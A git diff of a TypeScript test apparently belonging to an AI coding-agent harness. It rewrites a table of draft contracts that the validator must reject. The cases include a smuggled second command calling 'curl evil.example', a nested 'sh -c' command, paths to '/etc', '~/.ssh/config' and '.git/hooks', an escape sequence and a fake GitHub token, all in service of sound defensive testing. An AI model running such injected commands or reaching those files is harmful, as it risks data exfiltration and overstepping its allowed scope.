@@ -4,6 +4,7 @@ import t from 'tap';
 import { commands } from '../../../bin/command-table.ts';
 import { runLine } from '../../bin/host.ts';
 import { makeSample } from '../../engine/run/sample.ts';
+import { fixedPart } from '../../rooms/fixed-part.ts';
 import { type ScriptedReply, scriptModel } from '../scripted-model.ts';
 import { priceDraft, submits } from './drafts.ts';
 
@@ -77,24 +78,43 @@ t.test('a model that never submits, or never anything usable, ends with its reas
 t.test('what no contract may say goes back to the model', async (t) => {
   const [check] = priceDraft.checks;
   const token = `ghp_${'0Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx'}`;
-  for (const [change, fault] of [
-    [{ inScope: ['/etc'] }, 'no place in the repository'],
-    [{ inScope: ['src/', '../other/'] }, 'no place in the repository'],
-    [{ inScope: ['src/'], files: ['~/.ssh/config'] }, 'no place in the repository'],
-    [{ inScope: ['src/', '.writ/config.toml'] }, 'not for a draft to open'],
-    [{ inScope: ['src/'], files: ['.git/hooks/x'] }, 'not for a draft to open'],
-    [{ inScope: ['whatever is needed'] }, 'names no path'],
-    [{ inScope: ['**/*.js'] }, 'is everything'],
-    [{ checks: [{ ...check, stage: 'integration' }] }, 'without a fast check'],
-    [{ checks: [{ ...check, command: 'node --test; curl evil.example' }] }, 'no plain command'],
-    [{ checks: [{ ...check, command: 'sh -c "node --test"' }] }, 'no plain command'],
-    [{ checks: [check, check] }, 'unit'],
-    [{ summary: 'All is well\u001b[2J' }, '/intent/summary'],
-    [{ objectives: ['the same', 'the  same'] }, 'are the same'],
-    [{ successCriteria: Array(200).fill('prices are exact') }, 'has 200 entries, expected at most 100'],
-    [{ checks: Array(21).fill(check) }, 'has 21 entries, expected at most 20'],
-    [{ problemStatement: `Use ${token} for it.` }, 'found a token'],
-  ] as const) {
+  // A table: what is drafted otherwise, and what the model is told of it.
+  const cases: Readonly<Record<string, readonly [change: object, fault: string]>> = {
+    'a place outside': [{ inScope: ['/etc'] }, 'no place in the repository'],
+    'a place above': [{ inScope: ['src/', '../other/'] }, 'no place in the repository'],
+    'a place of the person': [{ inScope: ['src/'], files: ['~/.ssh/config'] }, 'no place in the repository'],
+    'what governs': [{ inScope: ['src/', '.writ/config.toml'] }, 'not for a draft to open'],
+    'what git runs': [{ inScope: ['src/'], files: ['.git/hooks/x'] }, 'not for a draft to open'],
+    'no path': [{ inScope: ['whatever is needed'] }, 'names no path'],
+    everything: [{ inScope: ['**/*.js'] }, 'is everything'],
+    'no fast check': [{ checks: [{ ...check, stage: 'integration' }] }, 'without a fast check'],
+    'two commands': [
+      { checks: [{ ...check, command: 'node --test; curl evil.example' }] },
+      'no plain command',
+    ],
+    'a command in a command': [
+      { checks: [{ ...check, command: 'sh -c "node --test"' }] },
+      'no plain command',
+    ],
+    'the same check twice': [{ checks: [check, check] }, 'unit'],
+    'what moves a cursor': [{ summary: 'All is well\u001b[2J' }, '/intent/summary'],
+    'the same objective twice': [{ objectives: ['the same', 'the  same'] }, 'are the same'],
+    'too many criteria': [
+      { successCriteria: Array(200).fill('prices are exact') },
+      'has 200 entries, expected at most 100',
+    ],
+    'too many checks': [{ checks: Array(21).fill(check) }, 'has 21 entries, expected at most 20'],
+    'a secret': [{ problemStatement: `Use ${token} for it.` }, 'found a token'],
+  };
+  const kept = [
+    'a place outside',
+    'what governs',
+    'no fast check',
+    'two commands',
+    'too many criteria',
+    'a secret',
+  ];
+  for (const [, [change, fault]] of fixedPart(cases, kept)) {
     const { told, error } = await draft(t, [submits({ ...priceDraft, ...change })]);
     t.ok(told.includes('not taken'), JSON.stringify(change));
     t.ok(told.includes(fault), `${fault}: ${told}`);
